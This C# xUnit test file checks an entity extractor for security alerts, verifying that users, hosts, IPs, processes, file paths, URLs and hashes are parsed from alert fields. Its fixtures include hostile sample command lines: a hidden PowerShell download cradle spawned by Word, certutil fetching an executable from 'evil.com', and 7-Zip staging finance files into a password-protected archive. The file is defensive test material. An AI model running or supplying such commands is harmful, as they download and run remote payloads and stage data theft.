using Verdict.Alerts;
using static Verdict.Tests.Alerts.EntityAssert;

namespace Verdict.Tests.Alerts;

public class EntityExtractorTests
{
    [Fact]
    public void User_DomainBackslashForm_IsTheBareNameWithItsDomain()
    {
        var user = EntityExtractor.Extract(new EntityInput { User = @"ACME\Bob" }).One(EntityKind.User, "bob");

        user.HasTags("domain-account");
        Assert.Equal("acme", user.Attribute("domain"));
    }

    [Fact]
    public void User_Upn_IsTaggedAndNeverAnEmail()
    {
        var found = EntityExtractor.Extract(new EntityInput { User = "Bob@Acme.com" });

        var user = Assert.Single(found);
        Assert.Equal(new Entity(EntityKind.User, "bob"), user);
        user.HasTags("upn");
        Assert.Equal("bob@acme.com", user.Attribute("upn"));
        Assert.Equal("acme.com", user.Attribute("domain"));
    }

    [Fact]
    public void User_PlainMachineAndSidForms()
    {
        Assert.Null(EntityExtractor.Extract(new EntityInput { User = "Bob" }).One(EntityKind.User, "bob").Tags);
        EntityExtractor.Extract(new EntityInput { User = "WS01$" }).One(EntityKind.User, "ws01$").HasTags("machine-account");
        var sid = Assert.Single(EntityExtractor.Extract(new EntityInput { User = "S-1-5-18" }));
        Assert.Equal(EntityKind.Sid, sid.Kind);
    }

    [Fact]
    public void User_PlaceholdersAreNotUsers()
    {
        Assert.Empty(EntityExtractor.Extract(new EntityInput { User = "-", Host = "N/A", Process = "unknown" }));
    }

    [Fact]
    public void Host_FqdnIsKeptLowerCase_AndAnAddressInAHostFieldIsAnIp()
    {
        var found = EntityExtractor.Extract(new EntityInput { Host = "WS-042.Corp.Acme.com", Fields = [new("dest_host", "10.1.1.9")] });

        Assert.Equal(["ws-042.corp.acme.com"], found.Values(EntityKind.Host));
        Assert.Equal(["10.1.1.9"], found.Values(EntityKind.Ip));
        Assert.Empty(found.Values(EntityKind.Domain));
    }

    [Fact]
    public void Process_ImageAndCommandLine_AreOneProcessWithTheCommandLineAsAttribute()
    {
        const string commandLine = @"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -nop -w hidden -c iwr http://198.51.100.9/a.ps1 -OutFile C:\Users\Public\a.ps1";
        var found = EntityExtractor.Extract(new EntityInput
        {
            Process = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ParentProcess = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            CommandLine = commandLine,
        });

        var process = found.One(EntityKind.Process, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe");
        Assert.Equal(commandLine, process.Attribute("command_line"));
        found.One(EntityKind.Process, @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE").HasTags("parent");
        Assert.Equal(2, found.Values(EntityKind.Process).Length);
        Assert.Equal([@"C:\Users\Public\a.ps1"], found.Values(EntityKind.FilePath));
        Assert.Equal(["http://198.51.100.9/a.ps1"], found.Values(EntityKind.Url));
        Assert.Equal(["198.51.100.9"], found.Values(EntityKind.Ip));
    }

    [Fact]
    public void Process_CommandLineAlone_GivesItsFirstProgram()
    {
        var found = EntityExtractor.Extract(new EntityInput { CommandLine = @"C:\Program Files\7-Zip\7z.exe a -pinfected C:\staging\out.7z C:\finance" });

        var process = Assert.Single(found, e => e.Kind == EntityKind.Process);
        Assert.Equal(@"C:\Program Files\7-Zip\7z.exe", process.Value);
        Assert.Equal([@"C:\staging\out.7z", @"C:\finance"], found.Values(EntityKind.FilePath));
    }

    [Fact]
    public void Process_FieldHoldingACommandLine_IsSplitIntoImageAndCommandLine()
    {
        var process = Assert.Single(EntityExtractor.Extract(new EntityInput { Process = "certutil.exe -urlcache -f http://evil.com/x x.exe" }),
            e => e.Kind == EntityKind.Process);

        Assert.Equal("certutil.exe", process.Value);
        Assert.Equal("certutil.exe -urlcache -f http://evil.com/x x.exe", process.Attribute("command_line"));
    }

    [Fact]
    public void Extract_EveryRawField_IsRead_AndTheListIsGroupedByKind()
    {
        var found = EntityExtractor.Extract(new EntityInput
        {
            User = @"ACME\bob",
            Host = "ws01",
            SourceIp = "185.220.101.34",
            Description = "beacon to evil.example.net from 185.220.101.34",
            Fields =
            [
                new("user", @"ACME\bob"), new("TargetUserName", "alice@acme.com"), new("TargetSid", "S-1-5-21-1-2-3-500"),
                new("event_time", "2026-10-31 10.20.30.40"), new("severity", "high"), new("note", "see 8.8.8.8"),
            ],
        });

        Assert.Equal(
            ["User:bob", "User:alice", "Host:ws01", "Ip:185.220.101.34", "Ip:8.8.8.8", "Domain:evil.example.net", "Sid:S-1-5-21-1-2-3-500"],
            found.Select(e => $"{e.Kind}:{e.Value}"));
    }

    [Fact]
    public void Extract_SameEntityTwice_IsKeptOnceWithEverythingKnownAboutIt()
    {
        var found = EntityExtractor.Extract(new EntityInput { User = "bob", Fields = [new("account", @"ACME\Bob"), new("upn", "bob@acme.com")] });

        var user = Assert.Single(found);
        user.HasTags("domain-account", "upn");
        Assert.Equal("acme", user.Attribute("domain"));
        Assert.Equal("bob@acme.com", user.Attribute("upn"));
    }

    [Fact]
    public void Extract_SameInput_GivesTheSameList()
    {
        var input = new EntityInput { Description = "a 10.0.0.1 b evil.com c 10.0.0.2 d http://x.example.org e bob@x.example.org" };

        Assert.Equal(EntityExtractor.Extract(input).Select(e => e.ToString()), EntityExtractor.Extract(input).Select(e => e.ToString()));
    }

    [Fact]
    public void Merge_AcrossAlerts_IsDistinctInFirstSeenOrder()
    {
        IReadOnlyList<Entity> first = [new(EntityKind.User, "bob"), new(EntityKind.Ip, "10.0.0.1")];
        IReadOnlyList<Entity> second = [new(EntityKind.Ip, "10.0.0.2"), new(EntityKind.User, "bob", ["upn"]), new(EntityKind.Ip, "10.0.0.1")];

        var merged = EntityExtractor.Merge([first, second]);

        Assert.Equal(["User:bob [upn]", "Ip:10.0.0.1", "Ip:10.0.0.2"], merged.Select(e => e.ToString()));
    }

    [Fact]
    public void Entity_EqualityIsKindAndValue_TagsAndAttributesDoNotCount()
    {
        var plain = new Entity(EntityKind.Ip, "10.0.0.1");
        var tagged = new Entity(EntityKind.Ip, "10.0.0.1", ["private"], new Dictionary<string, string> { ["zone"] = "x" });

        Assert.Equal(plain, tagged);
        Assert.Equal(plain.GetHashCode(), tagged.GetHashCode());
        Assert.NotEqual(plain, new Entity(EntityKind.Host, "10.0.0.1"));
        Assert.Null(new Entity(EntityKind.Ip, "1.1.1.1", []).Tags);
    }

    [Theory]
    [InlineData("a.")]
    [InlineData("1.")]
    [InlineData("a@")]
    [InlineData("f:")]
    [InlineData("\\\\")]
    [InlineData("C:\\Program Files ")]
    [InlineData("S-1-5-")]
    [InlineData("a-")]
    [InlineData("[.]")]
    [InlineData("hxxp://a[.]")]
    public void Extract_HundredKilobytesOfPathologicalText_Completes(string unit)
    {
        var text = string.Concat(Enumerable.Repeat(unit, 100_000 / unit.Length));

        var found = EntityExtractor.Extract(new EntityInput { Description = text, Fields = [new("message", text), new("other", text + "x")] });

        Assert.NotNull(found);
    }

    [Fact]
    public void Extract_HundredKilobytesOfLogText_FindsWhatIsInIt()
    {
        var line = "2026-10-31T06:18:25Z host ws01 conn 10.0.0.1:445 -> 203.0.113.7 user bob@acme.com file C:\\Temp\\x.dll sha1 3395856ce81f2b7382dee72602f798b642f14140\n";
        var text = string.Concat(Enumerable.Repeat(line, 100_000 / line.Length));

        var found = EntityAssert.FromText(text);

        Assert.Equal(["10.0.0.1", "203.0.113.7"], found.Values(EntityKind.Ip));
        Assert.Single(found.Values(EntityKind.FileHash));
    }
}
